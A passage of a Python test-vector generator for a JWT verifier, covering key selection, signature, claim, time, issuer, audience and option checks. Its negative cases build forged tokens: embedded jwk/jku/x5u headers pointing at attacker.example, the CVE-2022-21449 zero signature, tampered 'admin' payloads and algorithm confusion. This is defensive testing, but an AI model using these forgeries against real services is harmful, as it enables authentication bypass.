                    "jwk-rsa-n-padded": "JWK n with '=' padding: strict base64url -> invalid_key",
                    "jwk-ec-point-not-on-curve": "EC point not on curve -> invalid_key at construction"}.get(name))
    err(g, "order-invalid-key-before-signature", "a too-short secret and a wrong MAC: the key is rejected first",
        "invalid_key", t256[:-4] + "AAAA", key=k_hmac(SECRET["s16"]))
    err(g, "order-alg-not-allowed-before-key", "alg not allowed and an unusable key: allow-list first",
        "algorithm_not_allowed", pyjwt(c, "RS256"), key=k_hmac(SECRET["s16"]), options=opts("HS256"))


def g_keyset():
    g = "keyset"
    c = base_claims()
    ra = jwk_of("rsa2048", kid="rsa-a")
    rb = jwk_of("rsa2048-b", kid="rsa-b")
    pa = jwk_of("p256", kid="ec-a")
    ea = jwk_of("ed25519", kid="ed-a")

    def rs(kid=None, key="rsa2048", alg="RS256"):
        return pyjwt(c, alg, key, headers={"kid": kid} if kid else None)

    o = opts("RS256")
    ok(g, "kid-match-ok", "the key whose kid equals the token kid is used", rs("rsa-a"), key=k_jwks(ra, rb, pa),
       options=o)
    ok(g, "kid-match-second-key-ok", "selection by kid, the matching key is not first", rs("rsa-b", "rsa2048-b"),
       key=k_jwks(ra, rb), options=o)
    ok(g, "no-kid-single-rsa-key-ok", "a token without kid considers all keys; one RSA key fits", rs(),
       key=k_jwks(ra), options=o)
    ok(g, "no-kid-narrowed-by-family-ok", "without kid, only one key fits RS256 among RSA, EC and OKP keys",
       rs(), key=k_jwks(pa, ra, ea), options=o)
    ok(g, "no-kid-keys-have-kids-ok", "without a token kid, keys carrying kids are still candidates",
       pyjwt(c, "EdDSA"), key=k_jwks(ra, ea), options=opts("EdDSA"))
    err(g, "no-kid-two-rsa-keys-ambiguous", "without kid, two RSA keys fit RS256: ambiguous", "key_not_found",
        rs(), key=k_jwks(ra, rb), options=o)
    err(g, "kid-not-in-set", "no key has the token kid", "key_not_found", rs("rsa-z"), key=k_jwks(ra, rb),
        options=o)
    err(g, "kid-token-keys-without-kid", "a token kid never matches keys without kid", "key_not_found",
        rs("rsa-a"), key=k_jwks(jwk_of("rsa2048")), options=o)
    err(g, "kid-match-wrong-family", "the kid points at an EC key but the token is RS256", "key_not_found",
        rs("ec-a"), key=k_jwks(ra, pa), options=o)
    err(g, "kid-match-wrong-curve", "the kid points at a P-256 key but the token is ES384", "key_not_found",
        pyjwt(c, "ES384", headers={"kid": "ec-a"}), key=k_jwks(pa, jwk_of("p384", kid="ec-b")),
        options=opts("ES384"))
    err(g, "duplicate-kid-two-rsa-keys", "two RSA keys share the token kid: ambiguous", "key_not_found",
        rs("same"), key=k_jwks(jwk_of("rsa2048", kid="same"), jwk_of("rsa2048-b", kid="same")), options=o)
    ok(g, "duplicate-kid-different-families-ok", "two keys share the kid but only the RSA one fits RS256",
       rs("same"), key=k_jwks(jwk_of("p256", kid="same"), jwk_of("rsa2048", kid="same")), options=o)
    err(g, "use-enc-not-selected", "a key with use 'enc' is not a candidate for verification: it is left out "
        "of the set (not_for_verification), so its kid names no key", "key_not_found",
        rs("rsa-a"), key=k_jwks(dict(ra, use="enc"), pa), options=o)
    ok(g, "use-sig-selected-ok", "a key with use 'sig' is a candidate", rs("rsa-a"), key=k_jwks(dict(ra, use="sig")),
       options=o)
    err(g, "key-ops-without-verify-not-selected", "a key whose key_ops lacks 'verify' is not a candidate: it is "
        "left out of the set (not_for_verification), so its kid names no key",
        "key_not_found", rs("rsa-a"), key=k_jwks(dict(ra, key_ops=["sign"]), pa), options=o)
    ok(g, "key-ops-verify-selected-ok", "key_ops containing 'verify'", rs("rsa-a"),
       key=k_jwks(dict(ra, key_ops=["verify"])), options=o)
    err(g, "jwk-alg-mismatch-not-selected", "a key with alg RS512 does not serve an RS256 token", "key_not_found",
        rs("rsa-a"), key=k_jwks(dict(ra, alg="RS512")), options=o)
    ok(g, "jwk-alg-narrows-ambiguity-ok", "JWK alg narrows two RSA keys (no token kid) to one", rs(),
       key=k_jwks(dict(rb, alg="PS256"), dict(ra, alg="RS256")), options=o)
    ok(g, "ignores-unknown-kty-ok", "a key with an unknown kty is ignored", rs("rsa-a"),
       key=k_jwks({"kty": "AKP", "alg": "ML-DSA-44", "pub": "AAAA", "kid": "pq"}, ra), options=o)
    ok(g, "ignores-unsupported-curves-ok", "secp256k1 and X25519 keys are skipped, not fatal (P-521 is usable)",
       rs("rsa-a"), key=k_jwks(jwk_of("p521", kid="p521"), jwk_of("secp256k1", kid="k1"),
                               jwk_of("x25519", kid="x"), ra), options=o)
    err(g, "unsupported-curve-only-key-with-kid", "the only key with the token kid is a skipped secp256k1 key",
        "key_not_found", pyjwt(c, "ES256", headers={"kid": "k1"}),
        key=k_jwks(jwk_of("secp256k1", kid="k1"), pa), options=opts("ES256"))
    add(g, "malformed-key-skipped-ok", "a malformed key (RSA without n) is left out of the set and reported "
        "(invalid); the other key still verifies", {"claims": c, "skipped": [
            {"index": 1, "kid": "broken", "reason": "invalid"}]},
        token=rs("rsa-a"), key=k_jwks(ra, {"kty": "RSA", "e": "AQAB", "kid": "broken"}), options=o)
    add(g, "weak-rsa-key-skipped-ok", "a 1024-bit RSA key is left out of the set and reported (invalid, RFC 7518 "
        "§3.3); the other key still verifies", {"claims": c, "skipped": [
            {"index": 1, "kid": "weak", "reason": "invalid"}]},
        token=rs("rsa-a"), key=k_jwks(ra, jwk_of("rsa1024", kid="weak")), options=o)
    err(g, "keys-missing", "a JWKS without 'keys'", "invalid_key", rs(), key={"jwks": {"kty": "RSA"}}, options=o)
    err(g, "keys-not-array", "'keys' must be an array", "invalid_key", rs(), key={"jwks": {"keys": ra}},
        options=o)
    err(g, "keys-string", "'keys' as a string", "invalid_key", rs(), key={"jwks": {"keys": "rsa"}}, options=o)
    err(g, "empty-keys-array", "a set with no usable key is an error: an empty 'keys' array", "invalid_key",
        rs(), key=k_jwks(), options=o)
    ok(g, "oct-key-ok", "an oct key in a set serves HS256 when the set allows oct keys (allow_oct)",
       pyjwt(c, "HS256", headers={"kid": "h1"}), key=k_jwks_oct(oct_jwk(SECRET["s32"], kid="h1"), ra),
       options=opts("HS256"))
    ok(g, "ec-p384-key-ok", "an EC P-384 key in a set", pyjwt(c, "ES384", headers={"kid": "p384"}),
       key=k_jwks(pa, jwk_of("p384", kid="p384")), options=opts("ES384"))
    err(g, "embedded-jwk-header-ignored", "RFC 8725 §3.10: an attacker signs with their own key and embeds it "
        "as 'jwk' with the victim's kid; the embedded key is never used", "invalid_signature",
        pyjwt(c, "RS256", "rsa2048-b", headers={"kid": "rsa-a", "jwk": JWK_PUB["rsa2048-b"]}),
        key=k_jwks(ra), options=o)
    err(g, "embedded-jku-header-ignored", "a 'jku' header is never fetched or trusted", "invalid_signature",
        pyjwt(c, "RS256", "rsa2048-b", headers={"kid": "rsa-a", "jku": "https://attacker.example/jwks.json"}),
        key=k_jwks(ra), options=o)


def g_signature():
    g = "signature"
    c = base_claims()
    t = pyjwt(c)
    h, p, s = split(t)
    err(g, "hs256-wrong-secret", "MACed with another 32-byte secret", "invalid_signature",
        pyjwt(c, "HS256", SECRET["s32_other"]))
    err(g, "rs256-wrong-key", "signed by another RSA key", "invalid_signature", pyjwt(c, "RS256", "rsa2048-b"))
    err(g, "ps256-wrong-key", "PS256 signed by another RSA key", "invalid_signature",
        pyjwt(c, "PS256", "rsa2048-b"))
    err(g, "es256-wrong-key", "signed by another P-256 key", "invalid_signature", pyjwt(c, "ES256", "p256-b"))
    err(g, "eddsa-wrong-key", "signed by another Ed25519 key", "invalid_signature",
        pyjwt(c, "EdDSA", "ed25519-b"))
    tampered = b64u(cjson(base_claims(sub="admin")))
    for alg in ["HS256", "RS256", "ES384", "EdDSA"]:
        hh, _, ss = split(pyjwt(c, alg))
        err(g, f"{alg.lower()}-tampered-payload", f"{alg}: payload changed after signing", "invalid_signature",
            f"{hh}.{tampered}.{ss}")
    _, pp, ss = split(pyjwt(c, "ES256"))
    err(g, "es256-tampered-header", "ES256: header changed (kid added) after signing", "invalid_signature",
        f"{b64u(cjson({'alg': 'ES256', 'kid': 'x', 'typ': 'JWT'}))}.{pp}.{ss}")
    hdr_ws = b64u(b'{"alg":"HS256", "typ":"JWT"}')
    err(g, "hs256-header-reencoded", "the same header JSON with different whitespace: the MAC covers the bytes "
        "as sent (RFC 7515 §5.2)", "invalid_signature", f"{hdr_ws}.{p}.{s}")

    def flip(sig_b64, index=5):
        raw = bytearray(b64u_dec(sig_b64))
        raw[index] ^= 0x01
        return b64u(bytes(raw))

    for alg in ["HS256", "RS256", "PS384", "ES256", "EdDSA"]:
        hh, pp, ss = split(pyjwt(c, alg))
        err(g, f"{alg.lower()}-flipped-signature-bit", f"{alg}: one bit of the signature flipped",
            "invalid_signature", f"{hh}.{pp}.{flip(ss)}")
    other = pyjwt(base_claims(sub="someone-else"))
    err(g, "signature-from-another-token", "a valid signature moved from another token", "invalid_signature",
        f"{h}.{p}.{split(other)[2]}")
    err(g, "hs256-truncated-mac", "a 16-byte truncated HS256 MAC", "invalid_signature",
        f"{h}.{p}.{b64u(b64u_dec(s)[:16])}")

    # ECDSA
    n256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    n384 = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973", 16)
    eh = {"alg": "ES256", "typ": "JWT"}
    si = (b64u(cjson(eh)) + "." + b64u(cjson(c))).encode()
    r, s_ = ecdsa_raw("ES256", si, PRIV["p256"])

    def es(sig):
        return si.decode() + "." + b64u(sig)

    def raw(r_, s__, size=32):
        return r_.to_bytes(size, "big") + s__.to_bytes(size, "big")

    err(g, "es256-der-signature", "an ASN.1 DER ECDSA signature instead of raw r||s (RFC 7518 §3.4)",
        "invalid_signature", es(encode_dss_signature(r, s_)))
    err(g, "es256-63-byte-signature", "r||s one byte short", "invalid_signature", es(raw(r, s_)[:63]))
    err(g, "es256-65-byte-signature", "r||s with an extra byte", "invalid_signature", es(raw(r, s_) + b"\x00"))
    err(g, "es256-65-byte-leading-zero", "r||s with a leading zero byte", "invalid_signature",
        es(b"\x00" + raw(r, s_)))
    err(g, "es256-all-zero-psychic-signature", "CVE-2022-21449 'psychic signature': r = s = 0",
        "invalid_signature", es(b"\x00" * 64))
    err(g, "es256-r-zero", "r = 0 with a valid s", "invalid_signature", es(raw(0, s_)))
    err(g, "es256-s-zero", "s = 0 with a valid r", "invalid_signature", es(raw(r, 0)))
    err(g, "es256-r-equals-order", "r = n (must be < n)", "invalid_signature", es(raw(n256, s_)))
    err(g, "es256-s-equals-order", "s = n (must be < n)", "invalid_signature", es(raw(r, n256)))
    err(g, "es256-r-all-ones", "r = 2^256 - 1 (>= n)", "invalid_signature", es(raw(2 ** 256 - 1, s_)))
    err(g, "es256-s-all-ones", "s = 2^256 - 1 (>= n)", "invalid_signature", es(raw(r, 2 ** 256 - 1)))
    high_s = s_ if s_ > n256 // 2 else n256 - s_
    ok(g, "es256-high-s-ok", "a high-S signature (s > n/2) is valid: JWS does not require low-S",
       es(raw(r, high_s)), key=k_pem("p256"), options=opts("ES256"))
    eh3 = {"alg": "ES384", "typ": "JWT"}
    si3 = (b64u(cjson(eh3)) + "." + b64u(cjson(c))).encode()
    r3, s3 = ecdsa_raw("ES384", si3, PRIV["p384"])
    high3 = s3 if s3 > n384 // 2 else n384 - s3
    ok(g, "es384-high-s-ok", "a high-S ES384 signature is valid",
       si3.decode() + "." + b64u(raw(r3, high3, 48)), key=k_pem("p384"), options=opts("ES384"))
    err(g, "es384-all-zero-psychic-signature", "r = s = 0 for ES384", "invalid_signature",
        si3.decode() + "." + b64u(b"\x00" * 96), key=k_pem("p384"), options=opts("ES384"))
    err(g, "es384-signature-es256-length", "a 64-byte signature under ES384 (needs 96)", "invalid_signature",
        si3.decode() + "." + b64u(raw(r, s_)), key=k_pem("p384"), options=opts("ES384"))

    # RSA
    rt = pyjwt(c, "RS256")
    rh, rp, rsig = split(rt)
    rsig_b = b64u_dec(rsig)
    err(g, "rs256-truncated-signature", "a 255-byte RSA-2048 signature", "invalid_signature",
        f"{rh}.{rp}.{b64u(rsig_b[:-1])}")
    long_sig = b64u(bytes(1) + rsig_b)
    err(g, "rs256-signature-leading-zero-257-bytes", "the valid signature with a leading zero byte (257 bytes): "
        "length must equal the modulus size", "invalid_signature", f"{rh}.{rp}.{long_sig}")
    err(g, "rs256-empty-signature", "an empty RS256 signature", "invalid_signature", f"{rh}.{rp}.")
    err(g, "rs256-signature-all-zero", "256 zero bytes", "invalid_signature", f"{rh}.{rp}.{b64u(bytes(256))}")

    def cross(hdr_alg, sig_alg, key=None):
        hh = {"alg": hdr_alg, "typ": "JWT"}
        inp = (b64u(cjson(hh)) + "." + b64u(cjson(c))).encode()
        return inp.decode() + "." + b64u(sign_raw(sig_alg, inp, key))

    err(g, "rs256-signature-in-rs384-header", "RS256 signature bytes under an RS384 header",
        "invalid_signature", cross("RS384", "RS256"), options=opts("RS384"))
    err(g, "hs256-mac-in-hs512-header", "an HS256 MAC (with a 64-byte key) under an HS512 header",
        "invalid_signature", cross("HS512", "HS256", SECRET["s64"]), key=k_hmac(SECRET["s64"]),
        options=opts("HS512"))
    err(g, "rs256-signature-in-ps256-header", "PKCS#1 v1.5 signature under a PS256 header",
        "invalid_signature", cross("PS256", "RS256"), options=opts("PS256"))
    err(g, "ps256-signature-in-rs256-header", "PSS signature under an RS256 header", "invalid_signature",
        cross("RS256", "PS256"), options=opts("RS256"))
    err(g, "ps384-signature-in-ps256-header", "PS384 signature under a PS256 header", "invalid_signature",
        cross("PS256", "PS384"), options=opts("PS256"))

    # EdDSA
    dt = pyjwt(c, "EdDSA")
    dh, dp, ds = split(dt)
    err(g, "eddsa-zero-signature", "64 zero bytes", "invalid_signature", f"{dh}.{dp}.{b64u(bytes(64))}")
    err(g, "eddsa-63-byte-signature", "a 63-byte Ed25519 signature", "invalid_signature",
        f"{dh}.{dp}.{b64u(b64u_dec(ds)[:63])}")

    # embedded keys (RFC 8725 §3.10) with a single configured key
    cert_b = "".join(PEM[("rsa2048-b", "cert")].splitlines()[1:-1])
    for name, extra in [("jwk", {"jwk": JWK_PUB["rsa2048-b"]}), ("x5c", {"x5c": [cert_b]}),
                        ("x5u", {"x5u": "https://attacker.example/cert.pem"}),
                        ("jku", {"jku": "https://attacker.example/jwks.json"})]:
        err(g, f"embedded-{name}-ignored", f"an attacker-signed token embedding its own key via '{name}' is "
            "checked against the configured key only", "invalid_signature",
            pyjwt(c, "RS256", "rsa2048-b", headers=extra), options=opts("RS256"))
    err(g, "order-signature-before-claims", "a bad signature on an expired token: signature first",
        "invalid_signature", pyjwt(base_claims(exp=NOW - 100), "HS256", SECRET["s32_other"]))


def g_claims():
    g = "claims"
    std = opts("HS256")

    def bad(name, claims, why, code="invalid_claim", options=None, unsure=None):
        err(g, name, why, code, pyjwt(claims) if "iss" not in claims or isinstance(claims["iss"], str)
            else build({"alg": "HS256", "typ": "JWT"}, claims), options=options or std, unsure=unsure)

    for claim in ["exp", "nbf", "iat"]:
        for label, value in [("string", str(NOW + 100)), ("null", None), ("boolean", True), ("array", [NOW]),
                             ("object", {"t": NOW})]:
            if claim != "exp" and label in ("boolean", "object"):
                continue
            cl = base_claims()
            cl[claim] = value
            bad(f"{claim}-{label}", cl, f"RFC 7519 §2/§4.1: {claim} must be a NumericDate (JSON number), not "
                f"{label}")
    for claim in ["iss", "sub", "jti"]:
        for label, value in [("number", 42), ("array", ["a"]), ("null", None)]:
            if claim != "sub" and label == "null":
                continue
            cl = base_claims()
            cl[claim] = value
            bad(f"{claim}-{label}", cl, f"RFC 7519 §4.1: {claim} must be a string, not {label}",
                unsure="sub null treated as present-but-wrong-type (invalid_claim)" if label == "null" else None)
    aud_opts = opts(audience="api")
    for label, value in [("number", 1), ("numeric-entry", [1]),
                         ("mixed-entries", ["api", 2]), ("object", {"aud": "api"}), ("null", None),
                         ("nested-array", [["api"]])]:
        bad(f"aud-{label}", base_claims(aud=value) if value is not None else dict(base_claims(), aud=None),
            f"RFC 7519 §4.1.3: aud must be a string or an array of strings, not {label}",
            options=aud_opts)
    bad("aud-empty-array", base_claims(aud=[]), "RFC 7519 §4.1.3: aud [] is well typed (an array of strings) and "
        "names no audience: the audience rule refuses it, not the type rule (issue 12)", code="invalid_audience",
        options=aud_opts)
    ok(g, "exp-fraction-ok", "NumericDate may be fractional (RFC 7519 §2): exp now+0.5", pyjwt(
        base_claims(exp=NOW + 0.5)))
    ok(g, "iat-fraction-ok", "a fractional iat", pyjwt(base_claims(iat=NOW - 59.25)))
    ok(g, "unregistered-claims-not-type-checked-ok", "private claims can hold any JSON value",
       pyjwt(base_claims(scope=5, roles=None, meta={"a": [1, "x", True, None]}, flag=False)))
    ok(g, "no-registered-claims-ok", "a token with no registered claims at all", pyjwt({"hello": "world"}))
    ok(g, "unicode-claims-escaped-ok", "non-ASCII claim values as JSON \\u escapes (PyJWT's output)",
       pyjwt(base_claims(name="Zoë Ünïcode", city="東京", emoji="😀")))
    ok(g, "nested-claims-ok", "nested objects and arrays are returned as-is",
       pyjwt(base_claims(ctx={"tenant": {"id": "t1", "tags": ["a", "b"]}, "n": [1, 2, {"x": None}]})))
    ok(g, "iss-sub-jti-strings-ok", "string iss, sub and jti", pyjwt(base_claims(iss="any-issuer", jti="id-1")))
    ok(g, "aud-string-ok", "aud as a string", pyjwt(base_claims(aud="api")), options=aud_opts)
    ok(g, "aud-array-ok", "aud as an array of strings", pyjwt(base_claims(aud=["web", "api"])), options=aud_opts)

    # required
    ok(g, "required-present-ok", "all required claims present", pyjwt(base_claims(jti="j1")),
       options=opts(required=["sub", "exp", "iat", "jti"]))
    ok(g, "required-custom-claim-ok", "required may name private claims", pyjwt(base_claims(tenant="t1")),
       options=opts(required=["tenant"]))
    err(g, "required-jti-missing", "required [jti] and the token has none", "missing_claim",
        pyjwt(base_claims()), options=opts(required=["jti"]))
    err(g, "required-exp-missing", "required [exp] and the token has no exp", "missing_claim",
        pyjwt(base_claims(exp=None)), options=opts(required=["exp"]))
    err(g, "required-one-of-several-missing", "required [sub, email]; email absent", "missing_claim",
        pyjwt(base_claims()), options=opts(required=["sub", "email"]))
    ok(g, "exp-absent-ok", "exp is optional unless required", pyjwt(base_claims(exp=None)))

    # order
    err(g, "order-type-before-audience", "exp as a string and a wrong aud: claim types are checked first",
        "invalid_claim", pyjwt(base_claims(exp=str(NOW + 100), aud="other")), options=aud_opts)
    err(g, "order-type-before-required", "iat as a string and a missing required claim: types first",
        "invalid_claim", pyjwt(base_claims(iat=str(NOW))), options=opts(required=["jti"]))
    err(g, "order-type-before-expiry", "sub as a number on an expired token: types first", "invalid_claim",
        pyjwt(base_claims(sub=7, exp=NOW - 100)))
    err(g, "order-required-before-exp", "a missing required claim on an expired token: required first",
        "missing_claim", pyjwt(base_claims(exp=NOW - 100)), options=opts(required=["jti"]))
    err(g, "order-exp-before-nbf", "expired and not yet valid: exp first", "expired",
        pyjwt(base_claims(exp=NOW - 100, nbf=NOW + 100)))
    err(g, "order-exp-before-issuer", "expired with a wrong issuer: exp first", "expired",
        pyjwt(base_claims(exp=NOW - 100, iss="https://evil.example")),
        options=opts(issuer="https://issuer.example"))


def g_time():
    g = "time"

    def t(**kw):
        return pyjwt(base_claims(**kw))

    err(g, "exp-equal-now-is-expired", "RFC 7519 §4.1.4: rejected on or after exp (exp == now)", "expired",
        t(exp=NOW))
    ok(g, "exp-now-plus-one-ok", "exp one second in the future", t(exp=NOW + 1))
    err(g, "exp-now-minus-one", "exp one second ago", "expired", t(exp=NOW - 1))
    err(g, "exp-zero", "exp 0 (1970)", "expired", t(exp=0))
    err(g, "exp-negative", "a negative exp", "expired", t(exp=-1))
    ok(g, "exp-far-future-ok", "exp in the year 3000", t(exp=32503680000))
    ok(g, "exp-leeway-now-minus-9-ok", "leeway 10 accepts exp == now-9", t(exp=NOW - 9), options=opts(leeway=10))
    err(g, "exp-leeway-now-minus-10", "leeway 10 rejects exp == now-10 (exp <= now - leeway)", "expired",
        t(exp=NOW - 10), options=opts(leeway=10))
    err(g, "exp-fraction-before-now", "exp now-0.5 is expired", "expired", t(exp=NOW - 0.5))
    ok(g, "exp-fraction-after-now-ok", "exp now+0.5 is not expired yet", t(exp=NOW + 0.5))
    ok(g, "exp-leeway-zero-explicit-ok", "explicit leeway 0", t(exp=NOW + 1), options=opts(leeway=0))
    ok(g, "nbf-equal-now-ok", "RFC 7519 §4.1.5: accepted on or after nbf (nbf == now)", t(nbf=NOW))
    err(g, "nbf-now-plus-one", "nbf one second in the future", "not_yet_valid", t(nbf=NOW + 1))
    ok(g, "nbf-leeway-now-plus-10-ok", "leeway 10 accepts nbf == now+10", t(nbf=NOW + 10), options=opts(leeway=10))
    err(g, "nbf-leeway-now-plus-11", "leeway 10 rejects nbf == now+11", "not_yet_valid", t(nbf=NOW + 11),
        options=opts(leeway=10))
    err(g, "nbf-fraction-after-now", "nbf now+0.5 is in the future", "not_yet_valid", t(nbf=NOW + 0.5))
    ok(g, "iat-equal-now-ok", "iat == now", t(iat=NOW))
    err(g, "iat-now-plus-one", "an iat in the future is not yet valid", "not_yet_valid", t(iat=NOW + 1))
    ok(g, "iat-leeway-now-plus-10-ok", "leeway 10 accepts iat == now+10", t(iat=NOW + 10), options=opts(leeway=10))
    err(g, "iat-leeway-now-plus-11", "leeway 10 rejects iat == now+11", "not_yet_valid", t(iat=NOW + 11),
        options=opts(leeway=10))
    ok(g, "iat-far-past-ok", "an old iat without max_age is fine", t(iat=1000000000))
    ok(g, "max-age-boundary-ok", "max_age 300 and iat == now-300 (== is ok)", t(iat=NOW - 300),
       options=opts(max_age=300))
    err(g, "max-age-exceeded", "max_age 300 and iat == now-301", "expired", t(iat=NOW - 301),
        options=opts(max_age=300))
    ok(g, "max-age-leeway-boundary-ok", "max_age 300, leeway 10, iat == now-310", t(iat=NOW - 310),
       options=opts(max_age=300, leeway=10))
    err(g, "max-age-leeway-exceeded", "max_age 300, leeway 10, iat == now-311", "expired", t(iat=NOW - 311),
        options=opts(max_age=300, leeway=10))
    err(g, "max-age-iat-missing", "max_age needs iat", "missing_claim", t(iat=None), options=opts(max_age=300))
    ok(g, "max-age-zero-iat-now-ok", "max_age 0 with iat == now", t(iat=NOW), options=opts(max_age=0))
    err(g, "max-age-with-valid-exp", "exp is fine but the token is older than max_age", "expired",
        t(iat=NOW - 7200, exp=NOW + 3600), options=opts(max_age=3600))
    err(g, "order-nbf-before-max-age", "nbf in the future and iat too old: nbf first", "not_yet_valid",
        t(nbf=NOW + 100, iat=NOW - 1000), options=opts(max_age=60))
    err(g, "order-iat-future-before-max-age", "a future iat with max_age set: the iat check (not_yet_valid) comes first",
        "not_yet_valid", t(iat=NOW + 100), options=opts(max_age=60))


def g_issuer():
    g = "issuer"
    iss = "https://issuer.example.com"

    def t(value="__none__", **kw):
        cl = base_claims(**kw)
        if value != "__none__":
            cl["iss"] = value
        return pyjwt(cl) if not isinstance(cl.get("iss"), list) else build({"alg": "HS256", "typ": "JWT"}, cl)

    o = opts(issuer=iss)
    ok(g, "exact-match-ok", "RFC 7519 §4.1.1: iss equals the configured issuer", t(iss), options=o)
    for name, value in [("different", "https://other.example.com"), ("case-differs", "https://Issuer.example.com"),
                        ("trailing-slash", iss + "/"), ("prefix-of-configured", "https://issuer.example"),
                        ("configured-is-prefix", iss + ".evil.example"), ("substring", "issuer.example.com"),
                        ("trailing-whitespace", iss + " "), ("empty-string", ""), ("http-scheme", "http://issuer.example.com")]:
        err(g, name, f"iss must equal a configured value exactly: {value!r}", "invalid_issuer", t(value), options=o)
    err(g, "missing", "issuer configured but the token has no iss", "missing_claim", t(), options=o)
    err(g, "iss-array", "iss as an array is not a string", "invalid_claim", t([iss]), options=o)
    ok(g, "list-second-matches-ok", "issuer as a list: any one configured value may match",
       t("https://b.example"), options=opts(issuer=["https://a.example", "https://b.example"]))
    err(g, "list-none-match", "issuer as a list, none matches", "invalid_issuer", t("https://c.example"),
        options=opts(issuer=["https://a.example", "https://b.example"]))
    ok(g, "not-configured-any-iss-ok", "without an issuer option any string iss is accepted", t("whoever"))
    err(g, "order-issuer-before-audience", "wrong iss and wrong aud: issuer first", "invalid_issuer",
        t("https://other.example.com", aud="other"), options=opts(issuer=iss, audience="api"))
    err(g, "order-missing-issuer-before-audience", "missing iss and wrong aud: issuer (missing) first",
        "missing_claim", t(aud="other"), options=opts(issuer=iss, audience="api"))
    err(g, "order-max-age-before-issuer", "too old for max_age and a wrong issuer: max_age first", "expired",
        t("https://other.example.com", iat=NOW - 1000), options=opts(issuer=iss, max_age=60))


def g_audience():
    g = "audience"

    def t(aud="__none__"):
        return pyjwt(base_claims() if aud == "__none__" else base_claims(aud=aud))

    o = opts(audience="api")
    ok(g, "string-match-ok", "RFC 7519 §4.1.3: aud string equals the configured audience", t("api"), options=o)
    ok(g, "array-contains-ok", "aud array containing the configured audience", t(["web", "api", "admin"]), options=o)
    ok(g, "single-element-array-ok", "aud as a one-element array", t(["api"]), options=o)
    ok(g, "configured-list-one-matches-ok", "audience as a list, the token's aud matches one", t("web"),
       options=opts(audience=["api", "web"]))
    ok(g, "configured-list-array-overlap-ok", "audience list and aud array overlap in one value",
       t(["mobile", "web"]), options=opts(audience=["api", "web"]))
    err(g, "string-mismatch", "aud differs", "invalid_audience", t("other"), options=o)
    err(g, "array-no-match", "no element of aud matches", "invalid_audience", t(["web", "admin"]), options=o)
    err(g, "case-differs", "comparison is case-sensitive", "invalid_audience", t("API"), options=o)
    err(g, "prefix", "a prefix is not a match", "invalid_audience", t("api-internal"), options=o)
    err(g, "url-trailing-slash", "no URL normalisation", "invalid_audience", t("https://api.example.com/"),
        options=opts(audience="https://api.example.com"))
    err(g, "configured-list-no-match", "audience list, no overlap", "invalid_audience", t(["x", "y"]),
        options=opts(audience=["api", "web"]))
    err(g, "missing", "audience configured but the token has no aud", "missing_claim", t(), options=o)
    err(g, "aud-without-audience-option-string", "RFC 7519 §4.1.3: a token carrying aud must be rejected when "
        "the verifier has no audience configured", "invalid_audience", t("api"))
    err(g, "aud-without-audience-option-array", "the same with an aud array", "invalid_audience", t(["api", "web"]))
    err(g, "required-aud-missing", "required [aud] and no aud", "missing_claim", t(),
        options=opts(required=["aud"]))


def g_subject():
    g = "subject"
    sub = "user-123"

    def t(**kw):
        return pyjwt(base_claims(**kw))

    o = opts(subject=sub)
    ok(g, "exact-match-ok", "the subject option: sub equals it exactly (jose's and PyJWT's subject)", t(), options=o)
    for name, value in [("different", "user-124"), ("case-differs", "User-123"), ("prefix", "user-12"),
                        ("trailing-whitespace", "user-123 "), ("empty-string", "")]:
        err(g, name, f"sub must equal the configured subject exactly: {value!r}", "invalid_claim", t(sub=value),
            options=o)
    err(g, "missing", "subject configured but the token has no sub", "missing_claim", t(sub=None), options=o)
    err(g, "sub-number", "RFC 7519 §4.1.2: sub must be a string; a number is a type error even when its digits "
        "match", "invalid_claim", build({"alg": "HS256", "typ": "JWT"}, base_claims(sub=123)),
        options=opts(subject="123"))
    ok(g, "not-configured-any-sub-ok", "without a subject option any string sub is accepted", t(sub="whoever"))
    err(g, "order-issuer-before-subject", "wrong iss and wrong sub: issuer first", "invalid_issuer",
        t(iss="https://other.example", sub="x"), options=opts(issuer="https://issuer.example", subject=sub))
    err(g, "order-subject-before-audience", "wrong sub and wrong aud: subject first", "invalid_claim",
        t(sub="x", aud="other"), options=opts(subject=sub, audience="api"))


def g_options():
    g = "options"
    tok = pyjwt(base_claims())
    key = k_hmac(SECRET["s32"])

    def oe(name, options, option, why, token=tok, unsure=None):
        add(g, name, why, {"options_error": option}, token=token, key=key, options=options, unsure=unsure)

    oe("algorithms-empty", {"algorithms": []}, "algorithms", "an empty allow-list is a caller mistake")
    oe("algorithms-missing", {}, "algorithms", "algorithms is required (RFC 8725 §3.1)")
    oe("algorithms-none", {"algorithms": ["none"]}, "algorithms", "'none' may never be allowed")
    oe("algorithms-none-capitalised", {"algorithms": ["HS256", "None"]}, "algorithms", "'None' in any casing")
    oe("algorithms-none-uppercase", {"algorithms": ["NONE"]}, "algorithms", "'NONE'")
    oe("algorithms-not-a-list", {"algorithms": "HS256"}, "algorithms", "algorithms must be a list",
       unsure="algorithms given as a bare string: chose options_error 'algorithms'")
    oe("leeway-negative", opts(leeway=-1), "leeway", "a negative leeway")
    oe("max-token-bytes-zero", opts(max_token_bytes=0), "max_token_bytes", "a zero size limit")
    oe("audience-empty-list", opts(audience=[]), "audience", "an empty audience list would match nothing")
    oe("issuer-empty-list", opts(issuer=[]), "issuer", "an empty issuer list")
    oe("max-age-negative", opts(max_age=-1), "max_age", "a negative max_age")
    oe("unknown-option-leway", opts(leway=10), "leway", "a misspelt option is refused, not ignored")
    oe("unknown-option-audiance", opts(audiance="api"), "audiance", "a misspelt audience option")
    oe("options-error-before-token-checks", {"algorithms": []}, "algorithms",
       "building the verifier fails before the (garbage) token is looked at", token="garbage")
    oe("subject-empty", opts(subject=""), "subject", "an empty subject would match no token")
    oe("subject-list", opts(subject=["a", "b"]), "subject", "subject is one string (not a list)")
    # Other libraries' names for our options are refused too (a hint in the message names ours).
    for peer, ours in [("clock_tolerance", "leeway"), ("max_token_age", "max_age"), ("required_claims", "required"),
                       ("current_date", "now")]:
        oe(f"peer-name-{peer.replace('_', '-')}", opts(**{peer: 5}), peer,
           f"{peer} (another library's spelling of {ours}) is an unknown option, never silently ignored")
    ok(g, "unimplemented-alg-in-list-ok", "an allow-list may name algorithms we do not implement; the HS256 "
       "token still verifies", tok, key=key, options=opts(["HS256", "ES256K"]))
    ok(g, "all-options-set-ok", "every option set at once",
